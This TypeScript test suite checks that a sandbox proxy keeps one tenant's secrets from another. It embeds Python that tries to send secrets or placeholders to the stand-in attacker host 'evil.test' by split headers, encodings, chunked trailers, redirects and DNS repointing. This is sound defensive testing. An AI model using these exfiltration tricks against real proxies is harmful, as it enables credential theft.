/** Two tenants, one proxy, one holder of secrets: what is A's goes where A says, and nowhere for B. */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, beforeEach, describe, test } from 'node:test';
import { type Served, served } from '../served.ts';
import { skip } from './own-namespace.ts';
import { HOSTS, SmallInternet } from './small-internet.ts';
import { Tenant } from './tenant.ts';

const VALUE = 'the-value-of-A-0123456789+/=x';
/** As a body, a query and Basic credentials would carry it. */
const FORMS = [
  VALUE,
  encodeURIComponent(VALUE),
  Buffer.from(`a:${VALUE}`).toString('base64').slice(4, -4),
];
const TIMEOUT = { timeout: 120_000 };

const NETWORK = {
  mode: 'filtered',
  intercept: true,
  allow: ['bank.test:80,443', 'old.test:443', 'evil.test:443'],
  secrets: { TOKEN: ['bank.test', 'old.test'] },
};
const OF_B = {
  mode: 'filtered',
  intercept: true,
  allow: ['bank.test:80,443', 'evil.test:80,443'],
  secrets: { MINE: ['evil.test', 'bank.test'] },
};

/** Requests by hand, each with the placeholder `P` somewhere in it. */
const sending = (placeholder: string): string => `
import base64, os, socket, ssl, time, urllib.parse
P = ${JSON.stringify(placeholder)} or os.environ['TOKEN']
def open_(host, port=443):
  s = socket.create_connection((host, port), 5)
  return s if port == 80 else ssl.create_default_context().wrap_socket(s, server_hostname=host)
def send(host, *pieces, port=443):
  try:
    s = open_(host, port)
    for piece in pieces: s.sendall(piece.encode('latin1')); time.sleep(.05)
    s.settimeout(3); print(s.recv(65536))
  except OSError as e: print(e)
def every_way(host, port=443):
  get = f'GET /x HTTP/1.1\\r\\nHost: {host}\\r\\n'
  post = f'POST /x HTTP/1.1\\r\\nHost: {host}\\r\\n'
  send(host, get + f'Authorization: Bearer {P}\\r\\n\\r\\n', port=port)
  send(host, get + 'Authorization: Basic ' + base64.b64encode(('a:' + P).encode()).decode() + '\\r\\n\\r\\n', port=port)
  send(host, get + 'X-Key: ' + P[:20], P[20:] + '\\r\\n\\r\\n', port=port)
  send(host, get + 'X-Key: ' + urllib.parse.quote(P).replace('-', '%2d') + '\\r\\n\\r\\n', port=port)
  send(host, f'GET /{P}?k={P} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n', port=port)
  send(host, post + f'Content-Length: {len(P)}\\r\\n\\r\\n{P}', port=port)
  send(host, post + f'Transfer-Encoding: chunked\\r\\nTrailer: X-Key\\r\\n\\r\\n0\\r\\nX-Key: {P}\\r\\n\\r\\n', port=port)
`;

describe('secrets of two tenants', { skip }, () => {
  let internet: SmallInternet;
  let service: Served;
  let a: Tenant;
  let b: Tenant;
  let ofA: string;
  /** As B has come by it: in a log, by mail. */
  let placeholder: string;

  before(async () => {
    internet = await SmallInternet.open();
    service = await served();
    a = await Tenant.open(service, 'acme');
    b = await Tenant.open(service, 'globex');
    ofA = await a.create(NETWORK, { secrets: { TOKEN: VALUE } });
    placeholder = (await a.python(ofA, "import os; print(os.environ['TOKEN'])")).stdout.trim();
    assert.match(placeholder, /^caisson-secret-[0-9a-f]{32}$/);
  });
  beforeEach(() => internet.forget());
  after(async () => {
    await service[Symbol.asyncDispose]();
    await internet[Symbol.asyncDispose]();
  });

  const nowhere = (text: string): void => {
    for (const form of FORMS) assert.ok(!text.includes(form), text.slice(0, 2000));
  };
  const header = 'GET /x HTTP/1.1\\r\\nHost: bank.test\\r\\nX-Key: ';

  test('A sends it to its host, in two pieces too', TIMEOUT, async () => {
    await a.python(ofA, `${sending('')}every_way('bank.test')`);
    const sent = internet.sentTo('bank.test');
    assert.ok(sent.includes(`Bearer ${VALUE}`), sent);
    assert.ok(sent.includes(`X-Key: ${VALUE}`), sent);
    assert.ok(sent.includes(Buffer.from(`a:${VALUE}`).toString('base64')), sent);
    assert.ok(sent.includes(`GET /${placeholder}?k=${placeholder} `), sent);
  });

  test("B sends A's placeholder everywhere, while A's sandbox uses it", TIMEOUT, async () => {
    const id = await b.create(OF_B, { secrets: { MINE: 'what B has' } });
    const using = a.spawn(
      ofA,
      `${sending('')}
for i in range(40): send('bank.test', '${header}' + P + '\\r\\n\\r\\n')
print('over')`,
    );
    const { stdout, stderr } = await b.python(
      id,
      `${sending(placeholder)}
for host in ('evil.test', 'bank.test'): every_way(host); every_way(host, 80)`,
    );
    const guest = await using;
    await guest.event('outcome');
    nowhere(`${stdout}${stderr}${internet.sentTo('evil.test')}`);
    // Those of A have it, and no connection has it together with what B sent.
    const withValue = internet.of('bank.test').filter(({ bytes }) => bytes.includes(VALUE));
    assert.equal(withValue.length, 40);
    for (const { bytes } of withValue) assert.ok(!bytes.includes(placeholder));
    const ofB = internet.of('bank.test').filter(({ bytes }) => bytes.includes(placeholder));
    assert.ok(ofB.length >= 6, `${ofB.length} connections of B came there`);
    await b.end(id);
  });

  test("B names A's placeholder as the value of a secret of its own", TIMEOUT, async () => {
    const id = await b.create(OF_B, { secrets: { MINE: placeholder } });
    await b.python(
      id,
      `${sending('')}`.replace("['TOKEN']", "['MINE']") +
        "every_way('evil.test')\nevery_way('bank.test')",
    );
    nowhere(`${internet.sentTo('evil.test')}${internet.sentTo('bank.test')}`);
    assert.ok(internet.sentTo('bank.test').includes(`Bearer ${placeholder}`));
    await b.end(id);
  });

  test('neither in clear text, nor to another host, nor by a redirect', TIMEOUT, async () => {
    const { stdout } = await a.python(
      ofA,
      `${sending('')}every_way('evil.test'); every_way('bank.test', 80)
import urllib.request as u
print(u.urlopen(u.Request('https://bank.test/away', headers={'X-Key': P})).read())`,
    );
    nowhere(`${stdout}${internet.sentTo('evil.test')}`);
    const clear = internet.of('bank.test').filter(({ port }) => port === 80);
    assert.ok(clear.length >= 5);
    nowhere(clear.map(({ bytes }) => bytes).join('\n'));
    assert.match(internet.sentTo('evil.test'), /GET \/caught /, 'the redirect was followed');
  });

  test('not where the name comes to lead: there is no certificate for it', TIMEOUT, async () => {
    internet.world.point('bank.test', [HOSTS['evil.test']]);
    const id = await a.create(NETWORK, { secrets: { TOKEN: VALUE } });
    const { stdout } = await a.python(id, `${sending('')}every_way('bank.test')`);
    internet.world.point('bank.test', [HOSTS['bank.test']]);
    assert.match(stdout, /502 Bad Gateway/);
    nowhere(`${stdout}${internet.sentTo('evil.test')}`);
    await a.end(id);
  });

  test(
    'a host that is taken from it gets it no more, on a kept connection either',
    TIMEOUT,
    async () => {
      const guest = await a.spawn(
        ofA,
        `${sending('')}
import sys
s = open_('old.test')
def ask(): s.sendall(f'GET /x HTTP/1.1\\r\\nHost: old.test\\r\\nX-Key: {P}\\r\\n\\r\\n'.encode()); s.recv(65536)
ask(); print('first', flush=True)
sys.stdin.readline(); ask(); send('old.test', f'GET /y HTTP/1.1\\r\\nHost: old.test\\r\\nX-Key: {P}\\r\\n\\r\\n')`,
      );
      await guest.until('first');
      assert.ok(internet.sentTo('old.test').includes(VALUE));
      internet.forgetBytes();
      await a.update(ofA, { ...NETWORK, secrets: { TOKEN: ['bank.test'] } });
      guest.input('\n');
      await guest.event('outcome');
      const sent = internet.sentTo('old.test');
      assert.equal(sent.split(placeholder).length, 3, sent);
      nowhere(sent);
      internet.forget();
      await a.python(ofA, `${sending('')}every_way('bank.test')`);
      assert.ok(internet.sentTo('bank.test').includes(`Bearer ${VALUE}`), 'its own host keeps it');
      await a.update(ofA, NETWORK);
    },
  );

  test('B trusts its own authority, and A its own', TIMEOUT, async () => {
    const id = await b.create(OF_B, { secrets: { MINE: 'what B has' } });
    const read = `import os; print(open(os.environ['SSL_CERT_FILE']).read())`;
    const first = (pem: string): string => pem.slice(0, pem.indexOf('-----END'));
    const mine = first((await b.python(id, read)).stdout);
    const theirs = (await a.python(ofA, read)).stdout;
    assert.match(mine, /BEGIN CERTIFICATE/);
    assert.notEqual(mine, first(theirs));
    assert.ok(!theirs.includes(mine), 'nothing that B’s proxy signs is taken by A');
    await b.end(id);
  });

  test(
    'nothing that B can ask for shows A or its value; no file of the service has it',
    TIMEOUT,
    async () => {
      const own = await b.create(OF_B, { secrets: { MINE: 'what B has' } });
      await b.python(own, `${sending(placeholder)}every_way('evil.test')`);
      for (const path of [
        `/api/sandboxes/${ofA}`,
        `/api/sandboxes/${ofA}/network`,
        `/api/sandboxes/${ofA}/violations`,
        `/api/sandboxes/${ofA}/ports`,
        `/api/sandboxes/${ofA}/usage`,
      ]) {
        const { status, text } = await b.ask('GET', path);
        assert.equal(status, 404, text);
      }
      const { status } = await b.ask('PUT', `/api/sandboxes/${ofA}/network`, { network: OF_B });
      assert.equal(status, 404);
      for (const path of [
        '/api/audit?limit=1000',
        '/api/sandboxes',
        `/api/sandboxes/${own}/violations`,
        '/api/statistics/threats',
        '/api/statistics/pool',
        '/metrics',
      ]) {
        const { text } = await b.ask('GET', path);
        nowhere(text);
        assert.ok(!text.includes(ofA), path);
      }
      // A's own records: the name of the secret, never its value.
      nowhere((await a.ask('GET', '/api/audit?limit=1000')).text);
      const violations = (await a.ask('GET', `/api/sandboxes/${ofA}/violations`)).text;
      assert.match(violations, /placeholder of TOKEN/);
      nowhere(violations);
      const files = readdirSync(service.state, { recursive: true, withFileTypes: true });
      for (const file of files.filter((each) => each.isFile())) {
        nowhere(readFileSync(join(file.parentPath, file.name), 'latin1'));
      }
    },
  );
});
